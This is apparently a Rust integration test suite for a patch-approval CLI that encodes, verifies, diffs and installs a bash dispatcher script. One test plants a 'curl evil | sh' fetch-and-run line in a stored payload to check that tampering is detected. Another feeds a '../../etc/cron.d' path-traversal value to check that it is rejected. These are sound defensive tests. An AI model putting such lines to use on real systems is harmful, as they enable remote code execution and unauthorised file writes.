//! Owner STEP 1: `propose-patch` builds the patch_ops_code APR carrying the
//! whole new dispatcher; `show-patch` lets approvers verify and diff exactly
//! what will be installed; the patched dispatcher really dispatches.
mod common;
use common::*;
use std::path::PathBuf;
use std::process::Command;

struct Tmp(PathBuf);
impl Tmp {
    fn new(name: &str, bytes: &[u8]) -> Tmp {
        static N: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
        let n = N.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let dir =
            std::env::temp_dir().join(format!("dot-abs-patch-test-{}-{n}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join(name);
        std::fs::write(&path, bytes).unwrap();
        Tmp(path)
    }
    fn path(&self) -> &str {
        self.0.to_str().unwrap()
    }
}
impl Drop for Tmp {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(self.0.parent().unwrap());
    }
}

fn propose_patch(db: &Db<'_>, file: &str, extra: &[&str]) -> Run {
    let mut args = vec![
        "propose-patch",
        "--new-content",
        file,
        "--file-path",
        "/opt/incomex/dot/bin/dot-apr-execute",
        "--dot-code",
        "DOT-310",
        "--session",
        "S-C1-ABS-001",
        "--test-plan",
        "bash -n passes; dispatch arm present; KG/create/update/add_field/patch_ops regress OK",
        "--by",
        "dot_c1_grant_issue",
        "--json",
    ];
    args.extend(extra);
    db.run_as("dot_c1_grant_issue", &args)
}

#[test]
fn encode_insert_show_patch_round_trips_the_identical_bytes() {
    let pg = Pg::start();
    let db = pg.db();
    let new = Tmp::new("dot-apr-execute.new", patched_dispatcher().as_bytes());
    let before = db.snapshot();
    let dry = propose_patch(&db, new.path(), &["--dry-run", "--apr", "APR-PATCH-1"]);
    dry.expect(0, "OK", "WOULD_PROPOSE");
    assert_eq!(dry.json()["payload"]["patch_mode"], "full_replace");
    assert_eq!(db.snapshot(), before, "a dry run writes nothing");

    propose_patch(&db, new.path(), &["--apr", "APR-PATCH-1"]).expect(0, "OK", "PROPOSED");
    let row = db
        .superuser()
        .query_one("SELECT request_type, action_code, status, session_code FROM apr_requests WHERE apr_code = 'APR-PATCH-1'", &[])
        .unwrap();
    assert_eq!(
        (
            row.get::<_, String>(0),
            row.get::<_, String>(1),
            row.get::<_, String>(2),
            row.get::<_, String>(3)
        ),
        (
            "fix_repair_dot".into(),
            "patch_ops_code".into(),
            "proposed".into(),
            "S-C1-ABS-001".into()
        )
    );
    let again = db.snapshot();
    propose_patch(&db, new.path(), &["--apr", "APR-PATCH-1"]).expect(
        4,
        "FAIL",
        "REJECT_APR_EXISTS",
    );
    assert_eq!(db.snapshot(), again);

    // --against a FIFO is an error at once, never a wait.
    let fifo = Tmp::new("fifo-dir-marker", b"");
    let fifo_path = std::path::Path::new(fifo.path()).with_file_name("against.fifo");
    assert!(Command::new("mkfifo")
        .arg(&fifo_path)
        .status()
        .unwrap()
        .success());
    let fifo_run = run_bounded(
        &mut db.command_as(
            "dot_authorize_build_step",
            &[
                "show-patch",
                "--apr",
                "APR-PATCH-1",
                "--against",
                fifo_path.to_str().unwrap(),
                "--json",
            ],
        ),
        std::time::Duration::from_secs(10),
    );
    fifo_run.expect(5, "ERROR", "ERROR_IO");

    // --out never replaces a file silently.
    let out = Tmp::new("decoded", b"keep me");
    let refused = db.run(&[
        "show-patch",
        "--apr",
        "APR-PATCH-1",
        "--out",
        out.path(),
        "--json",
    ]);
    refused.expect(5, "ERROR", "ERROR_IO");
    assert!(
        refused.json()["message"]
            .as_str()
            .unwrap()
            .contains("--force"),
        "{refused}"
    );
    assert_eq!(std::fs::read(out.path()).unwrap(), b"keep me");
    db.run(&[
        "show-patch",
        "--apr",
        "APR-PATCH-1",
        "--out",
        out.path(),
        "--force",
        "--json",
    ])
    .expect(0, "OK", "PATCH_VERIFIED");
    assert_eq!(
        std::fs::read(out.path()).unwrap(),
        std::fs::read(new.path()).unwrap()
    );

    let current = Tmp::new("dot-apr-execute", dispatcher_v2_2_0().as_bytes());
    let diff = db.run(&[
        "show-patch",
        "--apr",
        "APR-PATCH-1",
        "--against",
        current.path(),
    ]);
    assert_eq!(diff.exit(), 0, "{diff}");
    let text = diff.stdout();
    assert!(
        text.contains("+execute_authorize_build_step() {")
            && text.contains("-DOT_APR_EXECUTE_VERSION=2.2.0")
            && text.contains("+DOT_APR_EXECUTE_VERSION=2.3.0")
            && text.contains("+        authorize_build_step) execute_authorize_build_step"),
        "{text}"
    );
    assert!(text.contains("OK PATCH_VERIFIED"), "{text}");

    // A human reads the payload with its base64 shortened; --json has it whole.
    let human = db.run_as(
        "dot_c1_grant_issue",
        &[
            "propose-patch",
            "--new-content",
            new.path(),
            "--file-path",
            "/opt/incomex/dot/bin/dot-apr-execute",
            "--dot-code",
            "DOT-310",
            "--session",
            "S-C1-ABS-001",
            "--test-plan",
            "t",
            "--by",
            "dot_c1_grant_issue",
            "--dry-run",
        ],
    );
    assert_eq!(human.exit(), 0, "{human}");
    let full = dry.json()["payload"]["new_content_base64"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(full.len() > 1000);
    assert!(
        !human.stdout().contains(&full),
        "the whole base64 was printed"
    );
    assert!(
        human.stdout().contains(&full[..24])
            && human
                .stdout()
                .contains("characters; --json prints them all"),
        "{human}"
    );
}

#[test]
fn a_payload_edited_in_the_database_after_proposal_is_caught() {
    let pg = Pg::start();
    let db = pg.db();
    let new = Tmp::new("dot-apr-execute.new", patched_dispatcher().as_bytes());
    propose_patch(&db, new.path(), &["--apr", "APR-PATCH-2"]).expect(0, "OK", "PROPOSED");
    let evil = base64_of(
        &patched_dispatcher().replace("set -euo pipefail", "set -uo pipefail; curl evil | sh"),
    );
    db.sql(&format!(
        "UPDATE apr_requests SET proposed_action = jsonb_set(proposed_action, '{{new_content_base64}}', '\"{evil}\"') WHERE apr_code = 'APR-PATCH-2'"
    ));
    let out = Tmp::new("decoded", b"untouched");
    db.run(&[
        "show-patch",
        "--apr",
        "APR-PATCH-2",
        "--out",
        out.path(),
        "--json",
    ])
    .expect(4, "FAIL", "REJECT_PATCH_DIGEST_MISMATCH");
    assert_eq!(
        std::fs::read(out.path()).unwrap(),
        b"untouched",
        "nothing is written out on a mismatch"
    );
    db.run(&["show-patch", "--apr", "APR-NONE", "--json"])
        .expect(4, "FAIL", "REJECT_APR_NOT_FOUND");
    db.approved_apr("APR-NOT-PATCH", &valid_payload());
    db.run(&["show-patch", "--apr", "APR-NOT-PATCH", "--json"])
        .expect(4, "FAIL", "REJECT_APR_WRONG_ACTION");
}

fn base64_of(s: &str) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(s)
}

#[test]
fn every_bad_patch_is_refused_with_its_code_and_nothing_written() {
    let pg = Pg::start();
    let db = pg.db();
    let good = patched_dispatcher();
    let stale = good.replacen(
        "authorize_build_step: skip",
        "authorize_build_step: skipped",
        1,
    );
    let no_arm = dispatcher_v2_2_0();
    let broken = format!("{good}\nif then (\n");
    let mut big = good.clone().into_bytes();
    big.extend(std::iter::repeat_n(b'#', 1024 * 1024));
    let mut not_utf8 = good.clone().into_bytes();
    not_utf8.extend([0xff, 0xfe]);
    let before = db.snapshot();
    for (name, bytes, path, code) in [
        (
            "syntax",
            broken.into_bytes(),
            "/opt/incomex/dot/bin/dot-apr-execute",
            "REJECT_PATCH_SYNTAX",
        ),
        (
            "no-arm",
            no_arm.into_bytes(),
            "/opt/incomex/dot/bin/dot-apr-execute",
            "REJECT_PATCH_ARM_MISSING",
        ),
        (
            "stale",
            stale.into_bytes(),
            "/opt/incomex/dot/bin/dot-apr-execute",
            "REJECT_PATCH_ARM_STALE",
        ),
        (
            "empty",
            vec![],
            "/opt/incomex/dot/bin/dot-apr-execute",
            "REJECT_PATCH_EMPTY",
        ),
        (
            "big",
            big,
            "/opt/incomex/dot/bin/dot-apr-execute",
            "REJECT_PATCH_TOO_LARGE",
        ),
        (
            "utf8",
            not_utf8,
            "/opt/incomex/dot/bin/dot-apr-execute",
            "REJECT_PATCH_NOT_UTF8",
        ),
        (
            "relative",
            good.clone().into_bytes(),
            "opt/incomex/dot/bin/dot-apr-execute",
            "REJECT_PATCH_FILE_PATH",
        ),
        (
            "dotdot",
            good.clone().into_bytes(),
            "/opt/incomex/dot/bin/../../etc/cron.d/x",
            "REJECT_PATCH_FILE_PATH",
        ),
    ] {
        let file = Tmp::new(name, &bytes);
        for dry in [true, false] {
            let mut args = vec![
                "propose-patch",
                "--new-content",
                file.path(),
                "--file-path",
                path,
                "--dot-code",
                "DOT-310",
                "--session",
                "S",
                "--test-plan",
                "T",
                "--by",
                "dot_c1_grant_issue",
                "--json",
            ];
            if dry {
                args.push("--dry-run");
            }
            db.run_as("dot_c1_grant_issue", &args)
                .expect(4, "FAIL", code);
        }
    }
    let missing = [
        "propose-patch",
        "--new-content",
        "/nonexistent/new",
        "--file-path",
        "/opt/x",
        "--dot-code",
        "D",
        "--session",
        "S",
        "--test-plan",
        "T",
        "--by",
        "dot_c1_grant_issue",
        "--json",
    ];
    db.run_as("dot_c1_grant_issue", &missing)
        .expect(4, "FAIL", "REJECT_PATCH_MISSING");
    assert_eq!(db.snapshot(), before);
}

#[test]
fn the_patched_dispatcher_passes_bash_n_and_shellcheck_and_dispatches_a_real_apr() {
    let pg = Pg::start();
    let db = pg.db();
    let new = Tmp::new("dot-apr-execute", patched_dispatcher().as_bytes());
    propose_patch(&db, new.path(), &["--apr", "APR-PATCH-3"]).expect(0, "OK", "PROPOSED");
    let installed = Tmp::new("installed", b"");
    db.run(&[
        "show-patch",
        "--apr",
        "APR-PATCH-3",
        "--out",
        installed.path(),
        "--force",
        "--json",
    ])
    .expect(0, "OK", "PATCH_VERIFIED");

    let n = Command::new("bash")
        .args(["-n", installed.path()])
        .output()
        .unwrap();
    assert!(n.status.success(), "{}", String::from_utf8_lossy(&n.stderr));
    let sc = Command::new("shellcheck")
        .args(["--shell=bash", installed.path()])
        .output()
        .unwrap_or_else(|e| {
            panic!("shellcheck is required ({e}); install it: apt-get install shellcheck")
        });
    assert!(
        sc.status.success(),
        "{}",
        String::from_utf8_lossy(&sc.stdout)
    );

    db.bind();
    db.approved_apr("APR-VIA-PATCH", &valid_payload());
    let log = Tmp::new("dispatch.log", b"");
    let socket = pg.cluster.socket_dir();
    let mut cmd = Command::new("bash");
    pg.keys().apply(&mut cmd);
    let out = cmd
        .args([installed.path(), "APR-VIA-PATCH"])
        .env("PGHOST", &socket)
        .env("PGUSER", "dot_authorize_build_step")
        .env("PGDATABASE", &db.name)
        .env("DOT_APR_EXECUTE_PGUSER", "postgres")
        .env("DOT_APR_EXECUTE_LOG", log.path())
        .env("DOT_AUTHORIZE_BUILD_STEP_BIN", BIN)
        .output()
        .unwrap();
    let logged = std::fs::read_to_string(log.path()).unwrap();
    assert!(
        out.status.success(),
        "{logged}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(logged.contains("applied (MINTED)"), "{logged}");
    let status: String = db
        .superuser()
        .query_one(
            "SELECT status FROM apr_requests WHERE apr_code = 'APR-VIA-PATCH'",
            &[],
        )
        .unwrap()
        .get(0);
    assert_eq!(status, "applied");
    assert_eq!(db.grant_count(), 1);

    // Rollback, last step: restore the dispatcher as it was (no arm).
    let old = Tmp::new(
        "old",
        b"#!/usr/bin/env bash\nset -euo pipefail\necho 'dot-apr-execute v2.2.0'\n",
    );
    let run = propose_patch(&db, old.path(), &["--restore", "--apr", "APR-RESTORE"]);
    run.expect(0, "OK", "PROPOSED");
    let back = Tmp::new("back", b"");
    db.run(&[
        "show-patch",
        "--apr",
        "APR-RESTORE",
        "--out",
        back.path(),
        "--force",
        "--json",
    ])
    .expect(0, "OK", "PATCH_VERIFIED");
    assert_eq!(
        std::fs::read(back.path()).unwrap(),
        std::fs::read(old.path()).unwrap()
    );
}

#[test]
fn show_patch_json_carries_the_content_and_an_identical_file_says_no_differences() {
    // Issue 21: --json without --against/--out returned no content, and an
    // identical --against printed a blank `diff:`.
    let pg = Pg::start();
    let db = pg.db();
    let content = patched_dispatcher();
    let new = Tmp::new("dot-apr-execute.new", content.as_bytes());
    propose_patch(&db, new.path(), &["--apr", "APR-PATCH-NC"]).expect(0, "OK", "PROPOSED");
    let json = db.run(&["show-patch", "--apr", "APR-PATCH-NC", "--json"]);
    json.expect(0, "OK", "PATCH_VERIFIED");
    assert_eq!(json.json()["new_content"], content.as_str(), "{json}");
    let same = db.run(&[
        "show-patch",
        "--apr",
        "APR-PATCH-NC",
        "--against",
        new.path(),
    ]);
    assert_eq!(same.exit(), 0, "{same}");
    let text = same.stdout();
    assert!(text.lines().next() == Some("no differences"), "{same}");
    assert!(!text.lines().any(|l| l.trim_end() == "diff:"), "{same}");
}
